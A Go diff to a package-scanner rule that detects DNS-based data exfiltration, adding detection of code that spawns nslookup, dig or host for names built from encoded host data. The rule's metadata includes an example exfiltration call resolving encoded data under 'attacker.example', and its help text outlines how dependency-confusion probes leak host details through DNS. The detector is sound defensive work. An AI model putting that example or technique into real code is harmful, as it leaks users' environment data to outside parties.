@@ -321,13 +321,14 @@ type DNSExfil struct{}
 // Meta implements analyze.Rule.
 func (DNSExfil) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "net/dns-exfil", Version: 5, Title: "Smuggles data out in DNS lookups",
+		ID: "net/dns-exfil", Version: 6, Title: "Smuggles data out in DNS lookups",
 		Help: "The code encodes data (hex/base32/base64) and resolves host names built from it. DNS queries pass most firewalls, so dependency-confusion " +
 			"probes use them to report the victim's host name, user and directory to an attacker's name server. The lookup, the encoding and the " +
 			"host data must sit together (within 2,000 bytes of code): a proxy's lookup and a hash elsewhere in a bundle are unrelated. " +
 			"A name of two run-time labels or more under a constant domain counts as the encoding (a helper of the package cut the data into labels). " +
 			"A query method named for DNS (resolve4, resolveTxt…) counts on any object in a file that names the dns module, as a module " +
-			"loaded by a computed require is called through whatever holds it.",
+			"loaded by a computed require is called through whatever holds it. So does running nslookup, dig or host for such a name " +
+			"next to host data.",
 		Remediation:     "Remove the package; it reports your environment to a third party.",
 		Example:         "dns.resolve4(`${hex}.${id}.attacker.example`)",
 		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigExfil, Needs: analyze.NeedCode,
@@ -372,6 +373,24 @@ func (DNSExfil) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter
 			if rulekit.Near(c.Pos, encode) && rulekit.Near(c.Pos, data) {
 				r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Message: fmt.Sprintf("%s() resolves names built from encoded host data", c.Callee),
 					Evidence: rulekit.Ev(c.Snippet.String(), "", ""), Confidence: finding.ConfidenceHigh})
+				break
+			}
+		}
+		// the same through a resolver the code runs: nslookup, dig or
+		// host asked for such a name
+		for _, c := range f.Facts.Calls {
+			if !rulekit.IsSpawn(c) {
+				continue
+			}
+			cmd := rulekit.SpawnCommand(c)
+			switch rulekit.Program(cmd) {
+			case "nslookup", "dig", "host":
+			default:
+				continue
+			}
+			if slices.ContainsFunc(strings.Fields(cmd), dataLabels.MatchString) && rulekit.Near(c.Pos, data) {
+				r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Message: fmt.Sprintf("runs %s for names built from host data: %s", rulekit.Program(cmd), jsast.Clean(cmd, 120)),
+					Evidence: rulekit.Ev(c.Snippet.String(), cmd, ""), Confidence: finding.ConfidenceHigh})
 				break
 			}
 		}
